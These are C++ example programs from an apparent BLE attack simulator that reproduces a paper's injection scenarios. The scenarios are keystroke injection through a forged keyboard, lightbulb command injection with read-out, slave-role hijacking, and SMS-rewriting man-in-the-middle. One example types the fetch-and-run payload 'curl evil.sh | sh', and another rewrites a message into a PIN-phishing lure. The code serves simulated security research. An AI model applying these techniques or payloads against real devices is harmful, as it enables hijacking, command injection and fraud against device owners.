        scenario.hijacked_slave()->notify(forged_keyboard.report_handle(),
                                          gatt::HidKeyboardProfile::key_press_report(c));
        scenario.hijacked_slave()->notify(forged_keyboard.report_handle(),
                                          gatt::HidKeyboardProfile::key_release_report());
    }
    world.run_for(5_s);

    const bool ok = typed == payload && world.central->connected();
    std::printf("\nresult: computer typed %zu/%zu injected characters; still \"connected "
                "to its keyboard\": %s\n",
                typed.size(), payload.size(),
                world.central->connected() ? "yes" : "no");
    return ok ? 0 : 1;
}
