// The paper's future work (§IX), end to end: hijack the Slave role, swap in a
// malicious HID-over-GATT keyboard profile, and type into the Master.
//
// "being able to hijack the Slave role may potentially allow an attacker to
//  transmit an ATT notification ... expose a malicious keyboard profile
//  instead of the original one, and inject keystrokes to the Master"
#include <cstdio>

#include "core/scenarios.hpp"
#include "core/sniffer.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"

using namespace ble;
using namespace injectable;

int main() {
    Rng rng(21);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    // The victim peripheral is a benign keyboard; the "computer" (Central)
    // types whatever HID reports arrive on the report characteristic.
    host::PeripheralConfig kb_cfg;
    kb_cfg.name = "keyboard";
    host::Peripheral keyboard_device(scheduler, medium, rng.fork(), kb_cfg);
    gatt::HidKeyboardProfile benign_keyboard;
    benign_keyboard.install(keyboard_device.att_server(), "Logitech K380");

    host::CentralConfig pc_cfg;
    pc_cfg.name = "computer";
    pc_cfg.radio.position = {2.0, 0.0};
    host::Central computer(scheduler, medium, rng.fork(), pc_cfg);

    sim::RadioDeviceConfig attacker_cfg;
    attacker_cfg.name = "attacker";
    attacker_cfg.position = {1.0, 1.732};
    AttackerRadio attacker(scheduler, medium, rng.fork(), attacker_cfg);

    std::string typed;
    computer.gatt().on_notification = [&](std::uint16_t handle, const Bytes& value) {
        if (handle != benign_keyboard.report_handle()) return;
        const char c = gatt::HidKeyboardProfile::decode_report(value);
        if (c != 0) {
            typed.push_back(c);
            if (c == '\n') {
                std::printf("[%8.1f ms] COMPUTER received line: %s", to_ms(scheduler.now()),
                            typed.c_str());
            }
        }
    };

    AdvSniffer sniffer(attacker);
    std::optional<SniffedConnection> sniffed;
    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
        sniffed = conn;
    };
    sniffer.start();
    keyboard_device.start();
    link::ConnectionParams params;
    params.hop_interval = 24;  // HID links run fast (30 ms)
    params.timeout = 300;
    computer.connect(keyboard_device.address(), params);
    while (scheduler.now() < 5_s && !(sniffed && computer.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!sniffed || !computer.connected()) return 1;
    sniffer.stop();
    std::printf("[%8.1f ms] computer <-> keyboard connected; attacker synchronised\n",
                to_ms(scheduler.now()));

    AttackSession session(attacker, *sniffed);
    session.start();
    scheduler.run_until(scheduler.now() + 400_ms);

    // The forged device mirrors the keyboard's GATT layout (same handles), so
    // the computer's existing subscriptions keep working.
    att::AttServer fake;
    gatt::HidKeyboardProfile forged_keyboard;
    forged_keyboard.install(fake, "Logitech K380");

    ScenarioB scenario(session, fake);
    std::optional<ScenarioB::Result> result;
    scenario.execute([&](const ScenarioB::Result& r) { result = r; });
    while (scheduler.now() < 60_s && !result) {
        if (!scheduler.run_one()) break;
    }
    if (!result || !result->success) {
        std::printf("hijack failed\n");
        return 1;
    }
    std::printf("[%8.1f ms] ATTACK  slave hijacked in %d attempt(s); forged keyboard "
                "online\n",
                to_ms(scheduler.now()), result->attempts);
    scheduler.run_until(scheduler.now() + 500_ms);

    const std::string payload = "curl evil.sh | sh\n";
    std::printf("[%8.1f ms] ATTACK  typing: curl evil.sh | sh\n", to_ms(scheduler.now()));
    for (char c : payload) {
        scenario.hijacked_slave()->notify(forged_keyboard.report_handle(),
                                          gatt::HidKeyboardProfile::key_press_report(c));
        scenario.hijacked_slave()->notify(forged_keyboard.report_handle(),
                                          gatt::HidKeyboardProfile::key_release_report());
    }
    scheduler.run_until(scheduler.now() + 5_s);

    const bool ok = typed == payload && computer.connected();
    std::printf("\nresult: computer typed %zu/%zu injected characters; still \"connected "
                "to its keyboard\": %s\n",
                typed.size(), payload.size(), computer.connected() ? "yes" : "no");
    return ok ? 0 : 1;
}
