// Scenario A (paper §VI-A) in full: illegitimately using a device's
// functionality — drive the lightbulb's features *and* exfiltrate data with
// an injected Read Request (the Read Response goes to the legitimate master;
// the attacker overhears it).
#include <cstdio>

#include "core/scenarios.hpp"
#include "core/sniffer.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"

using namespace ble;
using namespace injectable;

int main() {
    Rng rng(3);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    host::PeripheralConfig bulb_cfg;
    bulb_cfg.name = "bulb";
    host::Peripheral bulb_device(scheduler, medium, rng.fork(), bulb_cfg);
    gatt::LightbulbProfile bulb;
    bulb.install(bulb_device.att_server(), "LivingRoomBulb");
    bulb.on_change = [&](const gatt::LightbulbProfile::State& s) {
        std::printf("[%8.1f ms] BULB   power=%s rgb=(%u,%u,%u) brightness=%u\n",
                    to_ms(scheduler.now()), s.powered ? "on" : "off", s.r, s.g, s.b,
                    s.brightness);
    };

    host::CentralConfig phone_cfg;
    phone_cfg.name = "phone";
    phone_cfg.radio.position = {2.0, 0.0};
    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);

    sim::RadioDeviceConfig attacker_cfg;
    attacker_cfg.name = "attacker";
    attacker_cfg.position = {1.0, 1.732};
    AttackerRadio attacker(scheduler, medium, rng.fork(), attacker_cfg);

    AdvSniffer sniffer(attacker);
    std::optional<SniffedConnection> sniffed;
    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
        sniffed = conn;
    };
    sniffer.start();
    bulb_device.start();
    link::ConnectionParams params;
    params.hop_interval = 36;
    params.timeout = 300;
    phone.connect(bulb_device.address(), params);
    while (scheduler.now() < 5_s && !(sniffed && phone.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!sniffed || !phone.connected()) return 1;
    sniffer.stop();

    AttackSession session(attacker, *sniffed);
    session.start();
    scheduler.run_until(scheduler.now() + 400_ms);
    ScenarioA scenario(session);

    auto wait = [&](auto& flag, Duration budget) {
        const TimePoint deadline = scheduler.now() + budget;
        while (scheduler.now() < deadline && !flag) {
            if (!scheduler.run_one()) break;
        }
    };

    // 1. Turn the bulb red.
    std::optional<ScenarioA::Result> red;
    scenario.inject_write(bulb.control_handle(),
                          gatt::LightbulbProfile::cmd_set_color(255, 0, 0),
                          [&](const ScenarioA::Result& r) {
                              red = r;
                              std::printf("[%8.1f ms] ATTACK colour write injected "
                                          "(%d attempts)\n",
                                          to_ms(scheduler.now()), r.attempts);
                          });
    wait(red, 60_s);

    // 2. Dim it.
    std::optional<ScenarioA::Result> dim;
    scenario.inject_write(bulb.control_handle(),
                          gatt::LightbulbProfile::cmd_set_brightness(5),
                          [&](const ScenarioA::Result& r) {
                              dim = r;
                              std::printf("[%8.1f ms] ATTACK brightness write injected "
                                          "(%d attempts)\n",
                                          to_ms(scheduler.now()), r.attempts);
                          });
    wait(dim, 60_s);

    // 3. Exfiltrate the Device Name via an injected Read Request.
    std::optional<ScenarioA::Result> read;
    std::optional<Bytes> name;
    scenario.inject_read(bulb.name_handle(),
                         [&](const ScenarioA::Result& r, std::optional<Bytes> value) {
                             read = r;
                             name = std::move(value);
                         });
    wait(read, 60_s);
    if (name) {
        std::printf("[%8.1f ms] ATTACK overheard Read Response: device name = \"%s\"\n",
                    to_ms(scheduler.now()),
                    std::string(name->begin(), name->end()).c_str());
    }

    scheduler.run_until(scheduler.now() + 500_ms);
    const bool ok = red && red->success && dim && dim->success && name &&
                    bulb.state().r == 255 && bulb.state().brightness == 5 &&
                    phone.connected() && bulb_device.connected();
    std::printf("\nresult: %s (victims still connected: %s)\n",
                ok ? "all three injections worked" : "something failed",
                phone.connected() ? "yes" : "no");
    return ok ? 0 : 1;
}
