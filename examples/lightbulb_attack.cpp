// Scenario A (paper §VI-A) in full: illegitimately using a device's
// functionality — drive the lightbulb's features *and* exfiltrate data with
// an injected Read Request (the Read Response goes to the legitimate master;
// the attacker overhears it).
#include <cstdio>

#include "core/scenarios.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    world::WorldSpec spec;
    spec.seed = 3;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;
    spec.master_sca_ppm = 0.0;
    spec.master_traffic_every_events = 0;
    spec.gap_device_name = "LivingRoomBulb";
    world::World world(spec);

    world.bulb.on_change = [&](const gatt::LightbulbProfile::State& s) {
        std::printf("[%8.1f ms] BULB   power=%s rgb=(%u,%u,%u) brightness=%u\n",
                    to_ms(world.scheduler.now()), s.powered ? "on" : "off", s.r, s.g,
                    s.b, s.brightness);
    };

    if (!world.establish_and_sniff(5_s)) return 1;
    AttackSession& session = world.start_session(400_ms);
    ScenarioA scenario(session);

    auto wait = [&](auto& flag, Duration budget) {
        world.run_until(budget, [&] { return static_cast<bool>(flag); });
    };

    // 1. Turn the bulb red.
    std::optional<ScenarioA::Result> red;
    scenario.inject_write(world.bulb.control_handle(),
                          gatt::LightbulbProfile::cmd_set_color(255, 0, 0),
                          [&](const ScenarioA::Result& r) {
                              red = r;
                              std::printf("[%8.1f ms] ATTACK colour write injected "
                                          "(%d attempts)\n",
                                          to_ms(world.scheduler.now()), r.attempts);
                          });
    wait(red, 60_s);

    // 2. Dim it.
    std::optional<ScenarioA::Result> dim;
    scenario.inject_write(world.bulb.control_handle(),
                          gatt::LightbulbProfile::cmd_set_brightness(5),
                          [&](const ScenarioA::Result& r) {
                              dim = r;
                              std::printf("[%8.1f ms] ATTACK brightness write injected "
                                          "(%d attempts)\n",
                                          to_ms(world.scheduler.now()), r.attempts);
                          });
    wait(dim, 60_s);

    // 3. Exfiltrate the Device Name via an injected Read Request.
    std::optional<ScenarioA::Result> read;
    std::optional<Bytes> name;
    scenario.inject_read(world.bulb.name_handle(),
                         [&](const ScenarioA::Result& r, std::optional<Bytes> value) {
                             read = r;
                             name = std::move(value);
                         });
    wait(read, 60_s);
    if (name) {
        std::printf("[%8.1f ms] ATTACK overheard Read Response: device name = \"%s\"\n",
                    to_ms(world.scheduler.now()),
                    std::string(name->begin(), name->end()).c_str());
    }

    world.run_for(500_ms);
    const bool ok = red && red->success && dim && dim->success && name &&
                    world.bulb.state().r == 255 && world.bulb.state().brightness == 5 &&
                    world.central->connected() && world.peripheral->connected();
    std::printf("\nresult: %s (victims still connected: %s)\n",
                ok ? "all three injections worked" : "something failed",
                world.central->connected() ? "yes" : "no");
    return ok ? 0 : 1;
}
