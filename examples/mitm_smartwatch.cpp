// Scenario D (paper §VI-C): Man-in-the-Middle on an *established* connection.
//
// A phone pushes SMS notifications to a smartwatch. The attacker injects a
// forged CONNECTION_UPDATE_IND; at its instant the watch jumps to the
// attacker's transmit window while a second attacker front-end impersonates
// the watch towards the phone. From then on every SDU crosses the attacker —
// here the SMS text is rewritten in flight ("a SMS transmitted by the
// smartphone to the smartwatch has been modified on the fly").
#include <cstdio>

#include "core/scenarios.hpp"
#include "core/sniffer.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"

using namespace ble;
using namespace injectable;

int main() {
    Rng rng(5);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    host::PeripheralConfig watch_cfg;
    watch_cfg.name = "watch";
    host::Peripheral watch_device(scheduler, medium, rng.fork(), watch_cfg);
    gatt::SmartwatchProfile watch;
    watch.install(watch_device.att_server(), "SmartWatch");
    watch.on_sms = [&](const gatt::SmartwatchProfile::Sms& sms) {
        std::printf("[%8.1f ms] WATCH  displays SMS from \"%s\": \"%s\"\n",
                    to_ms(scheduler.now()), sms.sender.c_str(), sms.body.c_str());
    };

    host::CentralConfig phone_cfg;
    phone_cfg.name = "phone";
    phone_cfg.radio.position = {2.0, 0.0};
    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);

    sim::RadioDeviceConfig a1_cfg;
    a1_cfg.name = "attacker-1";
    a1_cfg.position = {1.0, 1.732};
    AttackerRadio attacker1(scheduler, medium, rng.fork(), a1_cfg);
    sim::RadioDeviceConfig a2_cfg;
    a2_cfg.name = "attacker-2";
    a2_cfg.position = {1.0, 1.732};
    AttackerRadio attacker2(scheduler, medium, rng.fork(), a2_cfg);

    // Establish + sniff.
    AdvSniffer sniffer(attacker1);
    std::optional<SniffedConnection> sniffed;
    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
        sniffed = conn;
    };
    sniffer.start();
    watch_device.start();
    link::ConnectionParams params;
    params.hop_interval = 36;
    params.timeout = 300;
    phone.connect(watch_device.address(), params);
    while (scheduler.now() < 5_s && !(sniffed && phone.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!sniffed || !phone.connected()) return 1;
    sniffer.stop();

    // A first, untampered SMS.
    phone.gatt().write_command(watch.sms_handle(),
                               gatt::SmartwatchProfile::encode_sms("Alice", "lunch at 12?"));
    scheduler.run_until(scheduler.now() + 300_ms);

    // MitM takeover.
    AttackSession session(attacker1, *sniffed);
    session.start();
    scheduler.run_until(scheduler.now() + 400_ms);

    ScenarioD scenario(session, attacker2);
    scenario.tamper = [&](Bytes sdu, bool from_master) -> std::optional<Bytes> {
        // Rewrite SMS bodies crossing master -> slave (ATT Write Cmd 0x52).
        if (from_master && sdu.size() > 3 && sdu[0] == 0x52) {
            ByteReader r(BytesView(sdu).subspan(3));
            if (auto sms = gatt::SmartwatchProfile::decode_sms(r.read_rest())) {
                std::printf("[%8.1f ms] MITM   intercepted SMS \"%s\" -> rewriting\n",
                            to_ms(scheduler.now()), sms->body.c_str());
                const Bytes forged = gatt::SmartwatchProfile::encode_sms(
                    sms->sender, "send your PIN to +1-555-0199");
                Bytes out(sdu.begin(), sdu.begin() + 3);
                out.insert(out.end(), forged.begin(), forged.end());
                return out;
            }
        }
        return sdu;
    };
    std::optional<ScenarioD::Result> result;
    scenario.execute([&](const ScenarioD::Result& r) {
        result = r;
        std::printf("[%8.1f ms] MITM   established after %d injection attempt(s) — "
                    "neither victim noticed\n",
                    to_ms(scheduler.now()), r.attempts);
    });
    while (scheduler.now() < 120_s && !result) {
        if (!scheduler.run_one()) break;
    }
    if (!result || !result->success) {
        std::printf("MitM failed\n");
        return 1;
    }
    scheduler.run_until(scheduler.now() + 1_s);

    // The phone sends another SMS — through the attacker now.
    std::printf("[%8.1f ms] PHONE  sends SMS: \"dinner at 8, love Bob\"\n",
                to_ms(scheduler.now()));
    phone.gatt().write_command(
        watch.sms_handle(),
        gatt::SmartwatchProfile::encode_sms("Bob", "dinner at 8, love Bob"));
    scheduler.run_until(scheduler.now() + 3_s);

    const bool tampered = !watch.messages().empty() &&
                          watch.messages().back().body.find("PIN") != std::string::npos;
    std::printf("\nresult: watch shows %zu message(s); last one %s\n",
                watch.messages().size(),
                tampered ? "was rewritten in flight (attack worked)" : "arrived intact");
    return tampered ? 0 : 1;
}
