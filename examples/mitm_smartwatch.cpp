// Scenario D (paper §VI-C): Man-in-the-Middle on an *established* connection.
//
// A phone pushes SMS notifications to a smartwatch. The attacker injects a
// forged CONNECTION_UPDATE_IND; at its instant the watch jumps to the
// attacker's transmit window while a second attacker front-end impersonates
// the watch towards the phone. From then on every SDU crosses the attacker —
// here the SMS text is rewritten in flight ("a SMS transmitted by the
// smartphone to the smartwatch has been modified on the fly").
#include <cstdio>

#include "core/scenarios.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    world::WorldSpec spec;
    spec.seed = 5;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;
    spec.master_sca_ppm = 0.0;
    spec.master_traffic_every_events = 0;
    spec.profile = world::VictimProfile::kNone;  // the victim is a smartwatch
    spec.peripheral_name = "watch";
    spec.attacker_name = "attacker-1";
    world::World world(spec);

    gatt::SmartwatchProfile watch;
    watch.install(world.peripheral->att_server(), "SmartWatch");
    watch.on_sms = [&](const gatt::SmartwatchProfile::Sms& sms) {
        std::printf("[%8.1f ms] WATCH  displays SMS from \"%s\": \"%s\"\n",
                    to_ms(world.scheduler.now()), sms.sender.c_str(), sms.body.c_str());
    };

    // The MitM's second front-end, impersonating the watch towards the phone.
    const auto attacker2 = world.make_attacker("attacker-2", {1.0, 1.732});

    // Establish + sniff.
    if (!world.establish_and_sniff(5_s)) return 1;

    // A first, untampered SMS.
    world.central->gatt().write_command(
        watch.sms_handle(), gatt::SmartwatchProfile::encode_sms("Alice", "lunch at 12?"));
    world.run_for(300_ms);

    // MitM takeover.
    AttackSession& session = world.start_session(400_ms);

    ScenarioD scenario(session, *attacker2);
    scenario.tamper = [&](Bytes sdu, bool from_master) -> std::optional<Bytes> {
        // Rewrite SMS bodies crossing master -> slave (ATT Write Cmd 0x52).
        if (from_master && sdu.size() > 3 && sdu[0] == 0x52) {
            ByteReader r(BytesView(sdu).subspan(3));
            if (auto sms = gatt::SmartwatchProfile::decode_sms(r.read_rest())) {
                std::printf("[%8.1f ms] MITM   intercepted SMS \"%s\" -> rewriting\n",
                            to_ms(world.scheduler.now()), sms->body.c_str());
                const Bytes forged = gatt::SmartwatchProfile::encode_sms(
                    sms->sender, "send your PIN to +1-555-0199");
                Bytes out(sdu.begin(), sdu.begin() + 3);
                out.insert(out.end(), forged.begin(), forged.end());
                return out;
            }
        }
        return sdu;
    };
    std::optional<ScenarioD::Result> result;
    scenario.execute([&](const ScenarioD::Result& r) {
        result = r;
        std::printf("[%8.1f ms] MITM   established after %d injection attempt(s) — "
                    "neither victim noticed\n",
                    to_ms(world.scheduler.now()), r.attempts);
    });
    world.run_until(120_s, [&] { return result.has_value(); });
    if (!result || !result->success) {
        std::printf("MitM failed\n");
        return 1;
    }
    world.run_for(1_s);

    // The phone sends another SMS — through the attacker now.
    std::printf("[%8.1f ms] PHONE  sends SMS: \"dinner at 8, love Bob\"\n",
                to_ms(world.scheduler.now()));
    world.central->gatt().write_command(
        watch.sms_handle(),
        gatt::SmartwatchProfile::encode_sms("Bob", "dinner at 8, love Bob"));
    world.run_for(3_s);

    const bool tampered = !watch.messages().empty() &&
                          watch.messages().back().body.find("PIN") != std::string::npos;
    std::printf("\nresult: watch shows %zu message(s); last one %s\n",
                watch.messages().size(),
                tampered ? "was rewritten in flight (attack worked)" : "arrived intact");
    return tampered ? 0 : 1;
}
