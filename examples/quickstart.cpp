// Quickstart: the smallest end-to-end InjectaBLE run.
//
//   1. A phone (Central) connects to a smart bulb (Peripheral) in the
//      simulated radio world.
//   2. The attacker sniffs the CONNECT_REQ and synchronises with the hopping.
//   3. It races the legitimate master inside the window-widening window and
//      injects one ATT Write Request that switches the bulb off.
//
// Build & run:  ./build/examples/quickstart
#include <cstdio>

#include <cstdlib>
#include <memory>

#include "core/forge.hpp"
#include "core/session.hpp"
#include "core/sniffer.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"
#include "link/trace.hpp"

using namespace ble;
using namespace injectable;

int main() {
    // --- the world: one radio medium, three devices ---
    Rng rng(2026);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    // INJECTABLE_TRACE=1 prints every frame on the air, Wireshark-style.
    std::unique_ptr<link::PacketTrace> trace;
    if (std::getenv("INJECTABLE_TRACE")) {
        trace = std::make_unique<link::PacketTrace>(medium);
        trace->on_record = [](const link::TraceRecord& record) {
            std::printf("%s\n", link::PacketTrace::format(record).c_str());
        };
    }

    host::PeripheralConfig bulb_cfg;
    bulb_cfg.name = "bulb";
    host::Peripheral bulb_device(scheduler, medium, rng.fork(), bulb_cfg);
    gatt::LightbulbProfile bulb;
    bulb.install(bulb_device.att_server());
    bulb.on_change = [&](const gatt::LightbulbProfile::State& s) {
        std::printf("[%8.1f ms] BULB   state change: power=%s rgb=(%u,%u,%u)\n",
                    to_ms(scheduler.now()), s.powered ? "on" : "OFF", s.r, s.g, s.b);
    };

    host::CentralConfig phone_cfg;
    phone_cfg.name = "phone";
    phone_cfg.radio.position = {2.0, 0.0};
    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);

    sim::RadioDeviceConfig attacker_cfg;
    attacker_cfg.name = "attacker";
    attacker_cfg.position = {1.0, 1.732};  // paper Fig. 8: 2 m triangle
    AttackerRadio attacker(scheduler, medium, rng.fork(), attacker_cfg);

    // --- phase 1: sniff the CONNECT_REQ while the victims pair up ---
    AdvSniffer sniffer(attacker);
    std::optional<SniffedConnection> sniffed;
    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
        std::printf("[%8.1f ms] ATTACK CONNECT_REQ captured: AA=0x%08x, hop interval %u "
                    "(%.2f ms), hop increment %u\n",
                    to_ms(scheduler.now()), conn.params.access_address,
                    conn.params.hop_interval, conn.params.hop_interval * 1.25,
                    conn.params.hop_increment);
        sniffed = conn;
    };
    sniffer.start();

    bulb_device.start();
    link::ConnectionParams params;
    params.hop_interval = 36;  // a phone's default 45 ms
    params.timeout = 300;
    phone.connect(bulb_device.address(), params);

    while (scheduler.now() < 5_s && !(sniffed && phone.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!sniffed || !phone.connected()) {
        std::printf("setup failed\n");
        return 1;
    }
    std::printf("[%8.1f ms] VICTIM connection established (bulb <-> phone)\n",
                to_ms(scheduler.now()));
    sniffer.stop();

    // --- phase 2: synchronise with the hopping ---
    AttackSession session(attacker, *sniffed);
    session.start();
    scheduler.run_until(scheduler.now() + 400_ms);
    std::printf("[%8.1f ms] ATTACK following the connection (event %u, widening "
                "estimate %.1f us)\n",
                to_ms(scheduler.now()), session.event_counter(),
                to_us(session.estimated_widening()));

    // --- phase 3: inject ---
    session.on_attempt = [&](const AttemptReport& report) {
        std::printf("[%8.1f ms] ATTACK attempt %d on channel %u: %s\n",
                    to_ms(scheduler.now()), report.attempt, report.channel,
                    report.verdict.success()
                        ? "SUCCESS (Eq. 7 heuristic)"
                        : (!report.verdict.timing_ok ? "lost the race"
                                                     : "collision corrupted the frame"));
    };
    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.payload = att_over_l2cap(att::make_write_req(
        bulb.control_handle(), gatt::LightbulbProfile::cmd_set_power(false)));
    request.max_attempts = 50;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        std::printf("[%8.1f ms] ATTACK done: %s after %d attempt(s)\n",
                    to_ms(scheduler.now()), ok ? "injected" : "gave up", attempts);
    };
    session.inject(std::move(request));

    while (scheduler.now() < 60_s && !outcome) {
        if (!scheduler.run_one()) break;
    }

    scheduler.run_until(scheduler.now() + 1_s);
    std::printf("\nresult: bulb is %s; victims still connected: %s\n",
                bulb.state().powered ? "ON (attack failed)" : "OFF (attack worked)",
                phone.connected() && bulb_device.connected() ? "yes (attack is invisible)"
                                                             : "no");
    return bulb.state().powered ? 1 : 0;
}
