// Quickstart: the smallest end-to-end InjectaBLE run.
//
//   1. A phone (Central) connects to a smart bulb (Peripheral) in the
//      simulated radio world.
//   2. The attacker sniffs the CONNECT_REQ and synchronises with the hopping.
//   3. It races the legitimate master inside the window-widening window and
//      injects one ATT Write Request that switches the bulb off.
//
// Build & run:  ./build/examples/quickstart
#include <cstdio>
#include <cstdlib>
#include <memory>

#include "core/forge.hpp"
#include "link/trace.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    // --- the world: one radio medium, three devices ---
    world::WorldSpec spec;
    spec.seed = 2026;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;  // a stock phone crystal
    spec.master_sca_ppm = 0.0;     // ...declaring its real bound
    spec.master_traffic_every_events = 0;
    world::World world(spec);

    // INJECTABLE_TRACE=1 prints every frame on the air, Wireshark-style.
    std::unique_ptr<link::PacketTrace> trace;
    if (std::getenv("INJECTABLE_TRACE")) {
        trace = std::make_unique<link::PacketTrace>(world.medium);
        trace->on_record = [](const link::TraceRecord& record) {
            std::printf("%s\n", link::PacketTrace::format(record).c_str());
        };
    }

    world.bulb.on_change = [&](const gatt::LightbulbProfile::State& s) {
        std::printf("[%8.1f ms] BULB   state change: power=%s rgb=(%u,%u,%u)\n",
                    to_ms(world.scheduler.now()), s.powered ? "on" : "OFF", s.r, s.g,
                    s.b);
    };

    // --- phase 1: sniff the CONNECT_REQ while the victims pair up ---
    if (!world.establish_and_sniff(5_s)) {
        std::printf("setup failed\n");
        return 1;
    }
    const auto& conn = *world.sniffed;
    std::printf("[%8.1f ms] ATTACK CONNECT_REQ captured: AA=0x%08x, hop interval %u "
                "(%.2f ms), hop increment %u\n",
                to_ms(world.scheduler.now()), conn.params.access_address,
                conn.params.hop_interval, conn.params.hop_interval * 1.25,
                conn.params.hop_increment);
    std::printf("[%8.1f ms] VICTIM connection established (bulb <-> phone)\n",
                to_ms(world.scheduler.now()));

    // --- phase 2: synchronise with the hopping ---
    AttackSession& session = world.start_session(400_ms);
    std::printf("[%8.1f ms] ATTACK following the connection (event %u, widening "
                "estimate %.1f us)\n",
                to_ms(world.scheduler.now()), session.event_counter(),
                to_us(session.estimated_widening()));

    // --- phase 3: inject ---
    session.on_attempt = [&](const AttemptReport& report) {
        std::printf("[%8.1f ms] ATTACK attempt %d on channel %u: %s\n",
                    to_ms(world.scheduler.now()), report.attempt, report.channel,
                    report.verdict.success()
                        ? "SUCCESS (Eq. 7 heuristic)"
                        : (!report.verdict.timing_ok ? "lost the race"
                                                     : "collision corrupted the frame"));
    };
    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.payload = att_over_l2cap(att::make_write_req(
        world.bulb.control_handle(), gatt::LightbulbProfile::cmd_set_power(false)));
    request.max_attempts = 50;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        std::printf("[%8.1f ms] ATTACK done: %s after %d attempt(s)\n",
                    to_ms(world.scheduler.now()), ok ? "injected" : "gave up", attempts);
    };
    session.inject(std::move(request));

    world.run_until(60_s, [&] { return outcome.has_value(); });

    world.run_for(1_s);
    std::printf("\nresult: bulb is %s; victims still connected: %s\n",
                world.bulb.state().powered ? "ON (attack failed)" : "OFF (attack worked)",
                world.central->connected() && world.peripheral->connected()
                    ? "yes (attack is invisible)"
                    : "no");
    return world.bulb.state().powered ? 1 : 0;
}
