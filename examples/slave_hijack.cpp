// Scenario B (paper §VI-B): hijacking the Slave role.
//
// The attacker injects LL_TERMINATE_IND — the master ignores it, the slave
// obeys and leaves — then impersonates the slave. When the phone later reads
// the Device Name it receives the attacker's forged "Hacked" (the paper's
// exact demonstration).
#include <cstdio>

#include "core/scenarios.hpp"
#include "core/sniffer.hpp"
#include "gatt/builder.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"

using namespace ble;
using namespace injectable;

int main() {
    Rng rng(7);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    host::PeripheralConfig fob_cfg;
    fob_cfg.name = "keyfob";
    host::Peripheral keyfob_device(scheduler, medium, rng.fork(), fob_cfg);
    gatt::KeyfobProfile keyfob;
    keyfob.install(keyfob_device.att_server(), "KeyFob");

    host::CentralConfig phone_cfg;
    phone_cfg.name = "phone";
    phone_cfg.radio.position = {2.0, 0.0};
    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);

    sim::RadioDeviceConfig attacker_cfg;
    attacker_cfg.name = "attacker";
    attacker_cfg.position = {1.0, 1.732};
    AttackerRadio attacker(scheduler, medium, rng.fork(), attacker_cfg);

    keyfob_device.on_disconnected = [&](link::DisconnectReason reason) {
        std::printf("[%8.1f ms] KEYFOB kicked out of its own connection (%s) — "
                    "it has no idea the master is still being served\n",
                    to_ms(scheduler.now()), link::disconnect_reason_name(reason));
    };

    AdvSniffer sniffer(attacker);
    std::optional<SniffedConnection> sniffed;
    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
        sniffed = conn;
    };
    sniffer.start();
    keyfob_device.start();
    link::ConnectionParams params;
    params.hop_interval = 36;
    params.timeout = 300;
    phone.connect(keyfob_device.address(), params);
    while (scheduler.now() < 5_s && !(sniffed && phone.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!sniffed || !phone.connected()) return 1;
    sniffer.stop();
    std::printf("[%8.1f ms] victims connected; attacker synchronised\n",
                to_ms(scheduler.now()));

    AttackSession session(attacker, *sniffed);
    session.start();
    scheduler.run_until(scheduler.now() + 400_ms);

    // The attacker's fake device: Device Name = "Hacked".
    att::AttServer fake;
    gatt::GattBuilder builder(fake);
    const std::uint16_t name_handle = gatt::add_gap_service(builder, "Hacked");

    ScenarioB scenario(session, fake);
    std::optional<ScenarioB::Result> result;
    scenario.execute([&](const ScenarioB::Result& r) {
        result = r;
        std::printf("[%8.1f ms] LL_TERMINATE_IND injected after %d attempt(s); "
                    "attacker is now the slave\n",
                    to_ms(scheduler.now()), r.attempts);
    });
    while (scheduler.now() < 60_s && !result) {
        if (!scheduler.run_one()) break;
    }
    if (!result || !result->success) {
        std::printf("hijack failed\n");
        return 1;
    }

    scheduler.run_until(scheduler.now() + 1_s);
    std::printf("[%8.1f ms] phone still believes it is connected: %s\n",
                to_ms(scheduler.now()), phone.connected() ? "yes" : "no");

    std::optional<Bytes> name;
    phone.gatt().read(name_handle, [&](std::optional<Bytes> v) { name = std::move(v); });
    while (scheduler.now() < 70_s && !name) {
        if (!scheduler.run_one()) break;
    }
    if (name) {
        std::printf("[%8.1f ms] phone reads Device Name -> \"%s\"\n",
                    to_ms(scheduler.now()),
